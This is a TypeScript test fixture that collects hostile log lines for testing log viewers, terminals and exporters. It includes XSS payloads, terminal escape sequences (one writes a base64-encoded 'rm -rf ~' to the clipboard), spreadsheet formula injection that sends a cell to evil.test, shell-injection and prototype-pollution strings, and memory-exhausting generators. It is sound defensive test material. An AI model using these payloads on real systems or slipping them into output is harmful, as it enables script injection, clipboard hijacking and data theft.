/**
 * Log lines as a stranger would write them to take over the page, the terminal, the spreadsheet or the memory of the
 * one who reads: one corpus for everything that shows, copies, searches or exports lines. Pure; runs in a browser too.
 */

export interface HostileLine {
  /** What it tries, in a few words: for test titles. */
  readonly name: string;
  readonly text: string;
}

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

const line = (name: string, text: string): HostileLine => ({ name, text });

/** Text that a page must never take for markup or for a script address. */
export const MARKUP_LINES: readonly HostileLine[] = [
  line("script element", `<script>window.pwned=1</script>`),
  line("image with a handler", `<img src=x onerror="window.pwned=1">`),
  line("svg with a handler", `"><svg/onload=window.pwned=1>`),
  line("end of a JSON script block", `{"a":"</script><script>window.pwned=1</script>"}`),
  line("comment and CDATA", `<!--><img src=x onerror=window.pwned=1>--><![CDATA[<b>]]>`),
  line("entities", `&lt;img src=x onerror=window.pwned=1&gt; &#x3c;b&#x3e;`),
  line("script address", `javascript:window.pwned=1 data:text/html,<script>window.pwned=1</script>`),
  line("address with a quote", `https://example.com/"onmouseover="window.pwned=1`),
  line("address of a script in disguise", `java\tscript:alert(1) vbscript:x https://example.com@evil.test/`),
  line("template of a framework", `{{constructor.constructor("window.pwned=1")()}} \${window.pwned=1}`),
];

/** Escape sequences: colours are fine, everything else would move, rename, copy, ask or hide in a terminal. */
export const ESCAPE_LINES: readonly HostileLine[] = [
  line("colours", `${ESC}[1;31mred${ESC}[0m ${ESC}[38;5;196mx${ESC}[48;2;1;2;3my${ESC}[m`),
  line("clear screen and home", `safe${ESC}[2J${ESC}[3J${ESC}[Hforged prompt $ `),
  line("cursor over the line before", `${ESC}[1A${ESC}[2Kforged line`),
  line("alternate screen", `${ESC}[?1049h${ESC}[?25l`),
  line("OSC 0 window title", `${ESC}]0;pwned${BEL}title`),
  line("OSC 8 hyperlink", `${ESC}]8;;javascript:window.pwned=1${BEL}click${ESC}]8;;${BEL}`),
  line("OSC 8 hyperlink ended by ST", `${ESC}]8;id=1;https://evil.test${ST}bank.test${ESC}]8;;${ST}`),
  line("OSC 52 clipboard", `${ESC}]52;c;cm0gLXJmIH4=${BEL}pasted`),
  line("OSC 9 notification without an end", `${ESC}]9;never ends`),
  line("OSC 1337 file", `${ESC}]1337;File=name=eA==;inline=1:AAAA${BEL}`),
  line("DCS", `${ESC}P$q"p${ST}after`),
  line("APC, PM and SOS", `${ESC}_apc${ST}${ESC}^pm${ST}${ESC}Xsos${ST}after`),
  line("device reports", `${ESC}[c${ESC}[6n${ESC}[0x${ESC}Z`),
  line("eight-bit CSI and OSC", "\u009b31mred\u009b0m\u009d0;title\u0007after\u009c"),
  line("endless parameters", `${ESC}[${"1;".repeat(2_000)}31mend`),
  line("a number beyond all numbers", `${ESC}[${"9".repeat(400)}m${ESC}[38;5;99999mx`),
  line("only openings", `${ESC}[`.repeat(500)),
  line("charset and reset", `${ESC}(0lqk${ESC}c${ESC}>${ESC}=`),
  line("controls", "a\bb\rforged\u000b\u000c\u007f\u0000end"),
  line("bell", BEL.repeat(20)),
];

/** Characters that reorder, hide or break text. */
export const UNSEEN_LINES: readonly HostileLine[] = [
  line("right-to-left override", "invoice\u202egpj.exe\u202c"),
  line("isolates", "\u2066\u2067access\u2069\u2069 granted \u2068"),
  line("marks and an Arabic letter mark", "\u200e\u200f\u061c user"),
  line("zero width", "pass\u200bword adm\u200cin \u2060x\ufeff"),
  line("zero width joiner between letters", "a\u200db"),
  line("an emoji of several, whose joiners belong to it", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}"),
  line("tag characters", `hi${String.fromCodePoint(0xe0069, 0xe0067, 0xe006e)}`),
  line("NUL", "before\u0000after"),
  line("line and paragraph separators", "one\u2028two\u2029three\u0085four"),
  line("lone surrogates", "\ud800 lone \udc00 and swapped \udc00\ud800"),
  line("a surrogate at the very end", "end\ud83d"),
  line("private use, not a character, replacement", "\ue000\uffff\ufffd\u{10ffff}"),
  line("soft hyphen and fillers", "pay\u00adpal \u3164\u115f\u1160\u17b4\u180e\u034f"),
  line("a tower of combining marks", `z${"\u0300".repeat(500)}`),
  line("look-alikes", "\u0430dmin \u0391\u0412\u0421 \uff0e\uff0fetc"),
  line("letters that grow when lowered", "\u0130stanbul \u0130\u0130\u0130 \ufb00 \u00df"),
];

/** Text that pretends to be another entry or another cell. */
export const FORGED_LINES: readonly HostileLine[] = [
  line("a second entry", "ok\n2026-01-01T00:00:00.000Z ERROR req_forged forged"),
  line("a second NDJSON object", `ok"}\n{"level":"error","message":"forged"}`),
  line("carriage return", "ok\r2026-01-01T00:00:00.000Z ERROR - forged"),
  line("CRLF", "one\r\ntwo\r\n\r\nthree"),
  line("a formula", `=HYPERLINK("http://evil.test?x="&A1,"click")`),
  line("a formula behind a plus", `+cmd|' /C calc'!A0`),
  line("a formula behind a minus", "-2+3+cmd|' /C calc'!A0"),
  line("a formula behind an at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
  line("a formula behind a tab", "\t=1+1"),
  line("a formula behind a carriage return", "\r=1+1"),
  line("a formula in wide characters", "\uff1d1+1"),
  line("quotes and commas", `a,"b""c",;d\t'e'`),
  line("wildcards", "100% _under_ \\ %_\\%"),
  line("template of a shell", "$(touch /tmp/pwned) `id` ; | & > <"),
];

/** JSON that is odd, nearly JSON, or names what a program would trip over. */
export const JSON_LINES: readonly HostileLine[] = [
  line("__proto__ and constructor", `{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}`),
  line("the same key twice", `{"a":1,"a":2}`),
  line("numbers beyond a double", `{"id":12345678901234567890,"e":1e400,"z":-0,"f":0.1000}`),
  line("keys that look like indexes", `{"2":"b","1":"a","":"empty","a.b":"dot","a\\"]":"quote"}`),
  line("escaped controls", `{"a":"\\u0000\\u001b[31m\\ud800\\u202e"}`),
  line("markup in keys and values", `{"<img src=x onerror=window.pwned=1>":"</script>"}`),
  line("cut in the middle", `{"a":[1,2,{"b":"unfinished`),
  line("after words", `[INFO] answer: {"ok":true}`),
  line("brackets that are none", "[not json} {neither]"),
  line("a lone bracket", "["),
];

/** Every line above: small enough to be tried in any combination. */
export const HOSTILE_LINES: readonly HostileLine[] = [
  ...MARKUP_LINES,
  ...ESCAPE_LINES,
  ...UNSEEN_LINES,
  ...FORGED_LINES,
  ...JSON_LINES,
  line("nothing", ""),
  line("only white space", " \t\n \n"),
];

/** Lines that cost memory or time. Made when asked for, as some take megabytes. */
export const HUGE_LINES: readonly { readonly name: string; readonly make: () => string }[] = [
  { name: "5 MB without a break", make: () => "x".repeat(5_000_000) },
  { name: "5 MB of line feeds", make: () => "\n".repeat(5_000_000) },
  { name: "5 MB of characters of four bytes", make: () => "\u{1f600}".repeat(1_250_000) },
  { name: "1 MB of escape openings", make: () => `${ESC}[`.repeat(500_000) },
  { name: "1 MB of one escape sequence", make: () => `${ESC}]0;${"a".repeat(1_000_000)}` },
  { name: "1 MB of addresses", make: () => "https://example.com/(a ".repeat(43_000) },
  {
    name: "1 MB of closing brackets behind an address",
    make: () => `https://example.com/${")".repeat(1_000_000)}`,
  },
  { name: "1 MB of right-to-left overrides", make: () => "\u202e".repeat(1_000_000) },
  { name: "JSON 100,000 deep", make: () => "[".repeat(100_000) + "]".repeat(100_000) },
  { name: "JSON 100,000 deep in objects", make: () => `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}` },
  { name: "JSON 100,000 deep and never closed", make: () => "[{".repeat(100_000) },
  { name: "an array of a million", make: () => `[${"0,".repeat(999_999)}0]` },
  {
    name: "an object of 100,000 keys",
    make: () => `{${Array.from({ length: 100_000 }, (_, index) => `"k${index}":${index}`).join(",")}}`,
  },
];

/** What no text for a terminal may hold: escape sequences, controls but tab and line feed, and what reorders text. */
export const FORBIDDEN_IN_TERMINAL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
